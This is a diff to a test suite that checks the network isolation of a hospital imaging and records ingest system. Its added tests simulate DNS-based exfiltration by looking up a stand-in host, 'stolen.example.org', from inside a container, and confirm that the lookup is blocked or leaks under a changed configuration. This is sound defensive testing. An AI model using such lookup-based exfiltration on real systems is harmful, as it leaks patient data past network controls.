@@ -8,8 +8,8 @@ from itertools import product
 import engine
 import pytest
 from ingest_hospital import given
-from ingesting import FILL, PACS, RECORD, TOKEN, WAYS, Ingesting
-from reaching import addresses_of_this_machine, first_addresses, open_port, reaches
+from ingesting import FILL, PACS, RECORD, TOKEN, WAYS, Ingesting, missing
+from reaching import addresses_of_this_machine, first_addresses, lookup, name_service, open_port, reaches
 
 from federation.probe import answers
 from simulation.programs import Programs
@@ -21,6 +21,8 @@ INGEST = "10003:10003"
 
 @pytest.fixture(scope="module")
 def hospital(tmp_path_factory):
+    if reason := missing():
+        pytest.skip(reason)
     with engine.engine(), Programs(tmp_path_factory.mktemp("hospital")) as programs:
         engine.build("node", "custodian")
         ingesting = Ingesting(programs)
@@ -76,7 +78,7 @@ def around(hospital, filled):
     """All that may be reached from somewhere: by address and port."""
     ports = (hospital.pacs_port, hospital.record_port, 443)
     here = {*addresses_of_this_machine(), *first_addresses()}
-    there = {PACS, RECORD, TOKEN, *WAYS, *(hospital.outside(way) for way in WAYS)}
+    there = {PACS, RECORD, TOKEN, *WAYS, *(hospital.address_of(way, "hospital") for way in WAYS)}
     with open_port() as port:
         yield [*product(sorted(here | there), (port, *ports))]
 
@@ -98,17 +100,35 @@ def test_on_the_network_of_the_ways_it_reaches_everybody(hospital, around):
     assert {each for each in around if each[0] == hospital.address} - said == {(hospital.address, 443)}
 
 
+LOOK_UP = "a program inside sends data away in names it looks up"
+
+
+@pytest.mark.attack(LOOK_UP, held_by="a name service that is none")
+def test_no_name_is_asked_for_outside(hospital, filled):
+    with name_service() as asked:
+        assert hospital.inside("ingest", lookup("stolen.example.org")) == ""
+    assert asked == []
+
+
+@pytest.mark.mutant(LOOK_UP, how="the machine's name service")
+def test_with_the_machines_name_service_it_is(hospital, filled):
+    with name_service() as asked:
+        hospital.inside("ingest", lookup("stolen.example.org"), dns=hospital.address, networks=["hospital"])
+    assert any(b"stolen" in question for question in asked)
+
+
 @pytest.mark.attack("somebody on this machine asks the archive by its way", held_by="where it listens")
 def test_the_ways_take_nothing_from_outside(hospital, filled):
     for way, port in zip(WAYS, (hospital.pacs_port, hospital.record_port, 443), strict=True):
-        assert not answers(f"{hospital.outside(way)}:{port}")
+        assert not answers(f"{hospital.address_of(way, 'hospital')}:{port}")
 
 
 @pytest.mark.mutant("somebody on this machine asks the archive by its way", how="at all addresses")
 def test_at_all_addresses_a_way_would(hospital, filled):
     port = hospital.pacs_port
     with hospital.changed(pacs={"command": [f"0.0.0.0:{port}", f"{PACS}:{port}"]}):
-        hospital.programs.until(lambda: answers(f"{hospital.outside('pacs')}:{port}"), "a way for all", 30)
+        outside = hospital.address_of("pacs", "hospital")
+        hospital.programs.until(lambda: answers(f"{outside}:{port}"), "a way for everybody", 30)
 
 
 SECRETS = """
@@ -230,7 +250,17 @@ def test_nobody_has_rights_and_nothing_can_be_planted(hospital, filled, service,
     assert set(said.splitlines()) == expected
 
 
-# Last, since it changes the store.
+# Last, since they change what is stored.
+
+
+def test_an_archive_that_speaks_dimse_is_reached_by_c_get(hospital, filled):
+    at, port = hospital.address_of("pacs", "ingest"), hospital.pacs.orthanc.dimse
+    hospital.speak_dimse()
+    with hospital.changed(pacs={"command": [f"{at}:{port}", f"{PACS}:{port}"]}):
+        command = ("run", "--rm", "-T", "--no-deps", "-e", "WARDROUND_SITE=/etc/wardround/dimse.yaml")
+        assert "store version" in hospital.compose(*command, "ingest", FILL)
+    series, *_ = hospital.inside("custodian", READ.replace("/data", "/data/dimse")).split()
+    assert int(series) == len(hospital.allowed)
 
 
 def test_whoever_opts_out_leaves_the_store_by_the_daily_command(hospital, filled):
